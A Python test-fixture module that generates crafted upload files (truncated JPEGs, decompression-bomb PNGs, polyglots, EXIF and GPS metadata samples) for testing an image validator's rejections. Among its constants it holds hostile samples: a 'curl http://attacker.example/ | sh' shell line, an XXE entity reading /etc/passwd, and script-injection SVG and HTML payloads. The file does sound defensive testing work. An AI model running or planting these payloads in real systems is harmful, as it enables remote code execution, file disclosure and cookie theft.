"""Generators for the crafted inputs of docs "Bad input": every file is built in memory.

Kept apart from the tests so that a reliability report script can replay the same inputs and
count tried / rejected / crashed.
"""

from __future__ import annotations

import io
import random
import struct
import zlib
from collections.abc import Callable

import numpy as np
from PIL import Image, ImageDraw

GPS_IFD = 0x8825
ORIENTATION_TAG = 0x0112

# How a camera stores a picture for each EXIF orientation, written out independently of the code
# under test: the stored pixels are the upright picture with the inverse of the display fix
# applied (orientation 6 means "turn 90 degrees clockwise to display", so the camera stored it
# turned 90 degrees anticlockwise).
_STORE_FOR_ORIENTATION = {
    1: None,
    2: Image.Transpose.FLIP_LEFT_RIGHT,
    3: Image.Transpose.ROTATE_180,
    4: Image.Transpose.FLIP_TOP_BOTTOM,
    5: Image.Transpose.TRANSPOSE,
    6: Image.Transpose.ROTATE_90,
    7: Image.Transpose.TRANSVERSE,
    8: Image.Transpose.ROTATE_270,
}


def photo(width: int = 64, height: int = 48, seed: int = 0) -> Image.Image:
    """A smooth, asymmetric RGB picture (gradients and a few blobs), deterministic per seed.

    Asymmetric so that every flip and rotation gives a different picture; smooth so that JPEG
    round trips stay close.
    """
    rng = np.random.default_rng(seed)
    y, x = np.mgrid[0:height, 0:width].astype(np.float64)
    red = 255 * x / max(1, width - 1)
    green = 255 * y / max(1, height - 1)
    blue = 128 + 60 * np.sin(x / max(1, width) * 5 + y / max(1, height) * 2)
    pixels = np.stack([red, green, blue], axis=-1)
    image = Image.fromarray(np.clip(pixels, 0, 255).astype(np.uint8), "RGB")
    draw = ImageDraw.Draw(image)
    for _ in range(3):
        cx, cy = rng.integers(0, width), rng.integers(0, height)
        radius = max(2, min(width, height) // 6)
        colour = tuple(int(c) for c in rng.integers(0, 256, size=3))
        draw.ellipse((cx - radius, cy - radius, cx + radius, cy + radius), fill=colour)
    # A marker in the top-left corner so orientation mistakes cannot cancel out.
    draw.rectangle((0, 0, max(1, width // 8), max(1, height // 8)), fill=(250, 20, 20))
    return image


def encode(image: Image.Image, fmt: str, **params) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, fmt, **params)
    return buffer.getvalue()


def jpeg(image: Image.Image | None = None, **params) -> bytes:
    params.setdefault("quality", 95)
    params.setdefault("subsampling", 0)
    return encode(image or photo(), "JPEG", **params)


def png(image: Image.Image | None = None, **params) -> bytes:
    return encode(image or photo(), "PNG", **params)


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def raw_png(
    width: int, height: int, bit_depth: int, colour_type: int, idat: bytes, extra: bytes = b""
) -> bytes:
    """A PNG written by hand, so headers can say things a real encoder would never write."""
    header = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + extra
        + _chunk(b"IDAT", idat)
        + _chunk(b"IEND", b"")
    )


def decompression_bomb_png(width: int = 100_000, height: int = 100_000) -> bytes:
    """A few hundred bytes that declare width x height RGB pixels: the IDAT holds almost nothing."""
    return raw_png(width, height, 8, 2, zlib.compress(b"\x00" * 1024, 9))


def large_photo_jpeg(width: int = 6000, height: int = 4000) -> bytes:
    """A real, fully decodable 24-megapixel photo, the kind a modern phone takes."""
    # Drawn small and enlarged: drawing 24 megapixels directly would take seconds.
    small = photo(max(1, width // 8), max(1, height // 8), seed=3)
    big = small.resize((width, height), Image.Resampling.BILINEAR)
    return jpeg(big, quality=85, subsampling=2)


def truncated_jpeg() -> bytes:
    data = jpeg(photo(256, 192))
    return data[: len(data) // 2]


def random_bytes(n: int = 4096, seed: int = 0) -> bytes:
    return random.Random(seed).randbytes(n)


def random_after_jpeg_magic(n: int = 4096, seed: int = 1) -> bytes:
    return b"\xff\xd8\xff\xe0" + random.Random(seed).randbytes(n)


def random_after_png_magic(n: int = 4096, seed: int = 2) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + random.Random(seed).randbytes(n)


HTML_PAGE = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG_WITH_SCRIPT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(document.domain)</script><rect width='10' height='10'/></svg>"
)
SVG_BARE = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'
XML_DOC = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://attacker.example/ | sh\n"
PDF_HEADER = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
EPS_HEADER = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\nnewpath 0 0 moveto showpage\n"


def html_with_bom() -> bytes:
    return b"\xef\xbb\xbf  \n" + HTML_PAGE.lower()


def tiff() -> bytes:
    return encode(photo(), "TIFF")


def ico() -> bytes:
    return encode(photo(32, 32), "ICO")


def bmp() -> bytes:
    return encode(photo(), "BMP")


def gif() -> bytes:
    return encode(photo().convert("P"), "GIF")


def pdf_from_pillow() -> bytes:
    return encode(photo(), "PDF")


def _frames() -> list[Image.Image]:
    return [photo(seed=seed) for seed in range(3)]


def animated_png() -> bytes:
    first, *rest = _frames()
    return encode(first, "PNG", save_all=True, append_images=rest, duration=100, loop=0)


def animated_webp() -> bytes:
    first, *rest = _frames()
    return encode(
        first, "WEBP", save_all=True, append_images=rest, duration=100, loop=0, lossless=True
    )


def animated_gif() -> bytes:
    first, *rest = (frame.convert("P") for frame in _frames())
    return encode(first, "GIF", save_all=True, append_images=rest, duration=100, loop=0)


def jpeg_html_polyglot() -> bytes:
    """A valid JPEG that is also an HTML page: script in a comment segment and after the end."""
    comment = b"<html><script>alert('in comment')</script></html>"
    return jpeg(photo(), comment=comment) + HTML_PAGE


def cmyk_jpeg() -> bytes:
    return jpeg(photo().convert("CMYK"))


def greyscale_png() -> bytes:
    return png(photo().convert("L"))


def greyscale_jpeg() -> bytes:
    return jpeg(photo().convert("L"))


def png16_grey(values: np.ndarray) -> bytes:
    """A 16-bit greyscale PNG holding exactly ``values`` (uint16)."""
    height, width = values.shape
    rows = b"".join(b"\x00" + values[row].astype(">u2").tobytes() for row in range(height))
    return raw_png(width, height, 16, 0, zlib.compress(rows))


def png16_rgb(values: np.ndarray) -> bytes:
    """A 16-bit-per-channel RGB PNG holding exactly ``values`` (uint16, shape h x w x 3)."""
    height, width, _ = values.shape
    rows = b"".join(b"\x00" + values[row].astype(">u2").tobytes() for row in range(height))
    return raw_png(width, height, 16, 2, zlib.compress(rows))


def rgba_png(alpha: int | None = None) -> bytes:
    image = photo().convert("RGBA")
    if alpha is not None:
        image.putalpha(alpha)
    return png(image)


def rgba_gradient_alpha_png() -> bytes:
    image = photo().convert("RGBA")
    ramp = np.tile(np.linspace(0, 255, image.width).astype(np.uint8), (image.height, 1))
    image.putalpha(Image.fromarray(ramp, "L"))
    return png(image)


def palette_png(transparent_index: int | None = None) -> bytes:
    image = photo().convert("P", palette=Image.Palette.ADAPTIVE, colors=32)
    if transparent_index is None:
        return png(image)
    return png(image, transparency=transparent_index)


def la_png() -> bytes:
    return png(photo().convert("LA"))


def bilevel_png() -> bytes:
    return png(photo().convert("1"))


def exif_bytes(orientation: int = 1, gps: bool = False) -> bytes:
    exif = Image.Exif()
    exif[ORIENTATION_TAG] = orientation
    exif[0x010F] = "SkinSight Test Camera"  # Make
    if gps:
        gps_ifd = exif.get_ifd(GPS_IFD)
        gps_ifd[1] = "N"
        gps_ifd[2] = (52.0, 13.0, 27.5)
        gps_ifd[3] = "E"
        gps_ifd[4] = (4.0, 53.0, 41.2)
    return exif.tobytes()


def stored_for_orientation(upright: Image.Image, orientation: int) -> Image.Image:
    """The pixels a camera writes for ``orientation`` when the scene looks like ``upright``."""
    method = _STORE_FOR_ORIENTATION[orientation]
    return upright.copy() if method is None else upright.transpose(method)


def oriented(upright: Image.Image, orientation: int, fmt: str) -> bytes:
    stored = stored_for_orientation(upright, orientation)
    params = {"exif": exif_bytes(orientation)}
    if fmt == "JPEG":
        return jpeg(stored, **params)
    return encode(stored, fmt, **params)


def jpeg_with_everything() -> bytes:
    """A JPEG with GPS EXIF, an ICC profile, XMP and a comment: all of it must be stripped."""
    xmp = (
        b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
        b'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
        b"<rdf:Description>patient-name-in-xmp</rdf:Description></rdf:RDF></x:xmpmeta>"
    )
    return jpeg(
        photo(),
        exif=exif_bytes(1, gps=True),
        icc_profile=b"fake-icc-profile-" * 8,
        comment=b"patient-name-in-comment",
        xmp=xmp,
    )


def png_with_everything() -> bytes:
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "patient-name-in-text")
    info.add_itxt("XML:com.adobe.xmp", "patient-name-in-xmp")
    return png(photo(), pnginfo=info, exif=exif_bytes(1, gps=True))


# name -> (generator, substring expected in the rejection message)
REJECTED: dict[str, tuple[Callable[[], bytes], str]] = {
    "empty": (lambda: b"", "The file is empty."),
    "one_byte": (lambda: b"\xff", "not an image we accept"),
    "one_byte_zero": (lambda: b"\x00", "not an image we accept"),
    "decompression_bomb_png": (decompression_bomb_png, "100000×100000 pixels"),  # noqa: RUF001
    "bomb_just_over_limit": (lambda: decompression_bomb_png(10_000, 5_001), "megapixels"),
    "zero_width_png": (lambda: decompression_bomb_png(0, 10), "truncated or corrupt"),
    "truncated_jpeg": (truncated_jpeg, "The JPEG file is truncated or corrupt."),
    "random_bytes": (random_bytes, "not an image we accept"),
    "random_after_jpeg_magic": (random_after_jpeg_magic, "The JPEG file is truncated or corrupt."),
    "random_after_png_magic": (random_after_png_magic, "The PNG file is truncated or corrupt."),
    "html_named_jpg": (lambda: HTML_PAGE, "it looks like HTML"),
    "html_with_bom": (html_with_bom, "it looks like HTML"),
    "svg_with_script": (lambda: SVG_WITH_SCRIPT, "SVG images are not accepted"),
    "svg_bare": (lambda: SVG_BARE, "SVG images are not accepted"),
    "xml_entity": (lambda: XML_DOC, "it looks like an XML document"),
    "shell_script": (lambda: SHELL_SCRIPT, "it looks like a script"),
    "pdf_header": (lambda: PDF_HEADER, "it looks like a PDF document"),
    "pdf_from_pillow": (pdf_from_pillow, "it looks like a PDF document"),
    "eps": (lambda: EPS_HEADER, "EPS images are not accepted"),
    "tiff": (tiff, "TIFF images are not accepted; upload a JPEG, PNG or WebP photo."),
    "ico": (ico, "ICO images are not accepted"),
    "bmp": (bmp, "BMP images are not accepted"),
    "gif": (gif, "GIF images are not accepted"),
    "animated_gif": (animated_gif, "GIF images are not accepted"),
    "animated_png": (animated_png, "Animated images are not accepted."),
    "animated_webp": (animated_webp, "Animated images are not accepted."),
}


def mutate(data: bytes, rng: random.Random) -> bytes:
    """One random corruption of ``data``: byte flips, a truncation, an insertion or a deletion."""
    buf = bytearray(data)
    kind = rng.choice(("flip", "flip", "truncate", "insert", "delete", "header_flip"))
    if kind == "flip":
        for _ in range(rng.randint(1, 12)):
            buf[rng.randrange(len(buf))] = rng.randrange(256)
    elif kind == "header_flip":
        # Headers (dimensions, segment lengths, chunk sizes) are where decoders get hurt.
        for _ in range(rng.randint(1, 4)):
            buf[rng.randrange(min(len(buf), 200))] = rng.randrange(256)
    elif kind == "truncate":
        del buf[rng.randrange(1, len(buf)) :]
    elif kind == "insert":
        at = rng.randrange(len(buf))
        buf[at:at] = rng.randbytes(rng.randint(1, 64))
    else:
        at = rng.randrange(len(buf))
        del buf[at : at + rng.randint(1, 64)]
    return bytes(buf)
